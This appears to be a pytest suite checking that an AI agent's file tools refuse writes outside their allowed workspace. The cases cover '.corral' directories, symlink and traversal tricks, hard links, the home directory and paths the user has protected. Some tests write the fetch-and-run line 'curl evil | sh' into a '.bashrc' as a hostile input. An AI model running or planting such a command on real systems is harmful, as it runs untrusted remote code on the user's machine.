"""The file tools' workspace rules: ``.corral``, corral's home, the home directory.

Real files on a real file system; every refusal is checked by looking at the disk
afterwards, not only at the message.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
import trio

from agent import TextContent
from agent._tools.base import ToolRunResult
from agent._tools.confine import Workspace
from agent._tools.files import EditTool, ReadTool, WriteTool


async def no_progress(text: str) -> None:
    raise AssertionError("unexpected progress")


async def run(tool: Any, **args: Any) -> ToolRunResult:
    with trio.fail_after(30):
        result: ToolRunResult = await tool.run("c1", args, no_progress)
        return result


def body(result: ToolRunResult) -> str:
    return " ".join(b.text for b in result.content if isinstance(b, TextContent))


def files_under(path: Path) -> list[str]:
    return sorted(str(p.relative_to(path)) for p in path.rglob("*"))


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A project with an existing ``.corral`` holding one trusted extension."""
    ws = tmp_path / "project"
    (ws / "sub").mkdir(parents=True)
    (ws / ".corral" / "extensions" / "good").mkdir(parents=True)
    (ws / ".corral" / "extensions" / "good" / "extension.json").write_text('{"name": "good"}')
    (ws / "a.txt").write_text("alpha\n")
    return ws


CORRAL_SPELLINGS = [
    ".corral/extensions/x/extension.json",
    "./.corral/extensions/x/extension.json",
    "sub/../.corral/extensions/x/extension.json",
    ".CORRAL/extensions/x/extension.json",
    ".Corral/extensions/x/extension.json",
    "\uff0ecorral/extensions/x/extension.json",  # a fullwidth full stop: NFKC folds it
    "sub/.corral/extensions/x/extension.json",  # a nested project's
    "via-link/extensions/x/extension.json",
    "via-abs-link/extensions/x/extension.json",
    "sub/up/.corral/extensions/x/extension.json",
    ".corral",
]


@pytest.mark.parametrize("path", CORRAL_SPELLINGS)
async def test_writes_into_dot_corral_are_refused_however_spelled(root: Path, path: str) -> None:
    (root / "via-link").symlink_to(".corral")
    (root / "via-abs-link").symlink_to(root / ".corral")
    (root / "sub" / "up").symlink_to("..")
    before = files_under(root)
    result = await run(WriteTool(Workspace(str(root))), path=path, content="{}")
    assert result.is_error
    assert "never write into a .corral directory" in body(result)
    assert files_under(root) == before


async def test_absolute_path_into_dot_corral_is_refused(root: Path) -> None:
    path = str(root / ".corral" / "extensions" / "x" / "extension.json")
    result = await run(WriteTool(Workspace(str(root))), path=path, content="{}")
    assert result.is_error
    assert not (root / ".corral" / "extensions" / "x").exists()


async def test_edit_inside_dot_corral_is_refused_read_is_fine(root: Path) -> None:
    ws = Workspace(str(root))
    target = ".corral/extensions/good/extension.json"
    edit = await run(EditTool(ws), path=target, old_text="good", new_text="evil")
    assert edit.is_error
    assert "refused" in body(edit)
    assert (root / target).read_text() == '{"name": "good"}'
    read = await run(ReadTool(ws), path=target)
    assert body(read) == '{"name": "good"}'


async def test_a_workspace_inside_dot_corral_is_read_only(root: Path) -> None:
    ws = Workspace(str(root / ".corral" / "extensions"))
    result = await run(WriteTool(ws), path="x/extension.json", content="{}")
    assert result.is_error
    assert not (root / ".corral" / "extensions" / "x").exists()


async def test_corral_home_is_neither_read_nor_written(root: Path) -> None:
    home = root / "state" / "corral"
    (home / "sessions").mkdir(parents=True)
    (home / "sessions" / "s.jsonl").write_text("private\n")
    (root / "alias").symlink_to("state/corral")
    ws = Workspace(str(root), corral_home=str(home))
    for path in ("state/corral/sessions/s.jsonl", "alias/sessions/s.jsonl"):
        read = await run(ReadTool(ws), path=path)
        assert read.is_error, path
        assert "corral's home" in body(read)
        assert "private" not in body(read)
        write = await run(WriteTool(ws), path=path, content="x")
        assert write.is_error
    new = await run(WriteTool(ws), path="state/corral/extensions/x/extension.json", content="{}")
    assert new.is_error
    assert (home / "sessions" / "s.jsonl").read_text() == "private\n"
    assert not (home / "extensions").exists()


@pytest.mark.parametrize("where", ["home", "parent"])
async def test_the_home_directory_is_never_a_writable_workspace(tmp_path: Path, where: str) -> None:
    home = tmp_path / "alice"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    ws = Workspace(str(home if where == "home" else tmp_path), home=str(home))
    assert not ws.writable
    rel = ".bashrc" if where == "home" else "alice/.bashrc"
    write = await run(WriteTool(ws), path=rel, content="curl evil | sh\n")
    edit = await run(EditTool(ws), path=rel, old_text="# mine", new_text="curl evil | sh")
    for result in (write, edit):
        assert result.is_error
        assert "home directory" in body(result)
        assert "--cwd" in body(result)
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert body(await run(ReadTool(ws), path=rel)) == "# mine"
    # A project below the home directory is writable as usual.
    (home / "proj").mkdir()
    assert Workspace(str(home / "proj"), home=str(home)).writable


async def test_hard_links_are_not_written_through(tmp_path: Path, root: Path) -> None:
    outside = tmp_path / "bashrc"
    outside.write_text("# mine\n")
    os.link(outside, root / "innocent.txt")
    ws = Workspace(str(root))
    write = await run(WriteTool(ws), path="innocent.txt", content="pwned")
    edit = await run(EditTool(ws), path="innocent.txt", old_text="mine", new_text="pwned")
    for result in (write, edit):
        assert result.is_error
        assert "hard link" in body(result)
    assert outside.read_text() == "# mine\n"


async def test_a_fifo_is_refused_not_waited_on(root: Path) -> None:
    os.mkfifo(root / "pipe")
    result = await run(ReadTool(Workspace(str(root))), path="pipe")
    assert result.is_error
    assert "not a regular file" in body(result)


async def test_symlink_loops_and_absolute_links_inside(root: Path) -> None:
    (root / "loop1").symlink_to("loop2")
    (root / "loop2").symlink_to("loop1")
    (root / "abs").symlink_to(root / "a.txt")
    (root / "sub" / "abs-dir").symlink_to(root / "sub")
    ws = Workspace(str(root))
    loop = await run(ReadTool(ws), path="loop1")
    assert "too many levels of symbolic links" in body(loop)
    assert body(await run(ReadTool(ws), path="abs")) == "alpha"
    done = await run(WriteTool(ws), path="sub/abs-dir/new.txt", content="ok")
    assert not done.is_error
    assert (root / "sub" / "new.txt").read_text() == "ok"


@pytest.mark.parametrize("where", ["env", "option"])
async def test_a_session_protects_what_the_user_lists(
    home: Path, work: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    from helpers.agentkit import options, results_by_id, script

    from agent import open_runtime

    if where == "env":
        monkeypatch.setenv("CORRAL_PROTECT", ".envrc:.vscode/")
        extra: dict[str, Any] = {}
    else:
        monkeypatch.setenv("CORRAL_PROTECT", "ignored-when-the-option-is-given")
        extra = {"protect": [".envrc", ".vscode/"]}
    calls = [
        {"name": "write", "args": {"path": p, "content": "evil"}, "id": p}
        for p in (".envrc", ".vscode/tasks.json", "notes.txt")
    ]
    opts = options(
        home, work, provider="scripted", tools=["write"],
        script=script(tmp_path, {"tool_calls": calls}, {"text": "ok"}), **extra,
    )  # fmt: skip
    with trio.fail_after(60):
        async with open_runtime(opts) as rt:
            results = results_by_id(await rt.prompt("go").collect())
    assert results["notes.txt"] == (False, "wrote 4 bytes to notes.txt")
    for path in (".envrc", ".vscode/tasks.json"):
        failed, text = results[path]
        assert failed, text
        assert "you protected it" in text
    assert sorted(p.name for p in work.iterdir()) == ["notes.txt"]
